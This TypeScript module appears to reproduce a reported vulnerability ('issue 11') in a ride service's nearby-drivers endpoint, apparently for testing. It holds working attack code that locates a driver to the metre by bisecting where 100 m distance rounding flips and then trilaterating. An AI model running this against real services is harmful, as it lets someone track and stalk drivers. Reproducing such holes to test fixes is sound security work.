import { distanceM, METERS_PER_DEGREE, type LatLng } from '../../src/domain/geo.ts';

/**
 * The attack of issue 11 on `GET /drivers/nearby`, as a rider would run it: the service answers
 * a driver's distance rounded to 100 m, so where the rounded value flips (a "rounding edge") the
 * true distance is exactly half-way between the two values. Walking from a start point in three
 * directions, bisecting each flip down to a centimetre, gives three points at known exact
 * distances from the driver; trilateration then gives the position the distances are computed
 * from. Against exact positions that is the driver, to the metre, in ~60 queries.
 */

/** The distance the service reports for the target from `at`, or null when it is not listed. */
export type DistanceOracle = (at: LatLng) => Promise<number | null>;

export interface AttackOptions {
  /** How far the walk goes between two queries before bisecting (metres). */
  readonly stepM?: number;
  /** Bisection stops when the edge is bracketed this tightly (metres). */
  readonly precisionM?: number;
  readonly maxQueries?: number;
}

export interface AttackResult {
  readonly estimate: LatLng;
  readonly queries: number;
}

interface Plane {
  toPoint(x: number, y: number): LatLng;
}

/** A local east/north plane in metres around `origin` (fine over a few km). */
function planeAround(origin: LatLng): Plane {
  const metresPerDegreeLng = METERS_PER_DEGREE * Math.cos((origin.lat * Math.PI) / 180);
  return { toPoint: (x, y) => ({ lat: origin.lat + y / METERS_PER_DEGREE, lng: origin.lng + x / metresPerDegreeLng }) };
}

export async function locateByRoundingEdges(oracle: DistanceOracle, start: LatLng, options: AttackOptions = {}): Promise<AttackResult> {
  const stepM = options.stepM ?? 60;
  const precisionM = options.precisionM ?? 0.01;
  const maxQueries = options.maxQueries ?? 400;
  const plane = planeAround(start);
  let queries = 0;
  const ask = async (x: number, y: number): Promise<number> => {
    if (++queries > maxQueries) throw new Error(`no fix within ${maxQueries} queries`);
    const reported = await oracle(plane.toPoint(x, y));
    if (reported === null) throw new Error('the target left the answer');
    return reported;
  };

  const circles: { x: number; y: number; r: number }[] = [];
  const startValue = await ask(0, 0);
  for (const bearingDeg of [0, 120, 240]) {
    const ux = Math.sin((bearingDeg * Math.PI) / 180);
    const uy = Math.cos((bearingDeg * Math.PI) / 180);
    // Walk until the rounded distance changes...
    let low = 0;
    const lowValue = startValue;
    let high = stepM;
    let highValue = await ask(high * ux, high * uy);
    while (highValue === lowValue) {
      if (high > 5_000) throw new Error('no rounding edge found');
      [low, high] = [high, high + stepM];
      highValue = await ask(high * ux, high * uy);
    }
    // ...then bisect the flip.
    while (high - low > precisionM) {
      const mid = (low + high) / 2;
      const value = await ask(mid * ux, mid * uy);
      if (value === lowValue) low = mid;
      else [high, highValue] = [mid, value];
    }
    if (Math.abs(highValue - lowValue) !== 100) throw new Error(`a flip of ${highValue - lowValue} m is not one rounding edge`);
    const t = (low + high) / 2;
    circles.push({ x: t * ux, y: t * uy, r: (lowValue + highValue) / 2 });
  }
  return { estimate: trilaterate(plane, circles), queries };
}

/** The point at distances r_i from three points: a planar solve, refined on the sphere. */
function trilaterate(plane: Plane, circles: readonly { x: number; y: number; r: number }[]): LatLng {
  const [c1, c2, c3] = circles as [(typeof circles)[0], (typeof circles)[0], (typeof circles)[0]];
  // Subtracting circle 1's equation from circles 2 and 3 leaves two linear equations.
  const a11 = 2 * (c2.x - c1.x);
  const a12 = 2 * (c2.y - c1.y);
  const b1 = c1.r ** 2 - c2.r ** 2 + c2.x ** 2 - c1.x ** 2 + c2.y ** 2 - c1.y ** 2;
  const a21 = 2 * (c3.x - c1.x);
  const a22 = 2 * (c3.y - c1.y);
  const b2 = c1.r ** 2 - c3.r ** 2 + c3.x ** 2 - c1.x ** 2 + c3.y ** 2 - c1.y ** 2;
  const det = a11 * a22 - a12 * a21;
  let x = (b1 * a22 - a12 * b2) / det;
  let y = (a11 * b2 - b1 * a21) / det;
  // Gauss-Newton on the great-circle distances the service computes.
  const anchors = circles.map((c) => ({ at: plane.toPoint(c.x, c.y), r: c.r }));
  const residuals = (px: number, py: number) => anchors.map((a) => distanceM(plane.toPoint(px, py), a.at) - a.r);
  for (let iteration = 0; iteration < 8; iteration++) {
    const f = residuals(x, y);
    const h = 0.01;
    const fx = residuals(x + h, y);
    const fy = residuals(x, y + h);
    let [jtj11, jtj12, jtj22, jtf1, jtf2] = [0, 0, 0, 0, 0];
    for (let i = 0; i < f.length; i++) {
      const jx = (fx[i]! - f[i]!) / h;
      const jy = (fy[i]! - f[i]!) / h;
      jtj11 += jx * jx;
      jtj12 += jx * jy;
      jtj22 += jy * jy;
      jtf1 += jx * f[i]!;
      jtf2 += jy * f[i]!;
    }
    const d = jtj11 * jtj22 - jtj12 * jtj12;
    x -= (jtj22 * jtf1 - jtj12 * jtf2) / d;
    y -= (jtj11 * jtf2 - jtj12 * jtf1) / d;
  }
  return plane.toPoint(x, y);
}
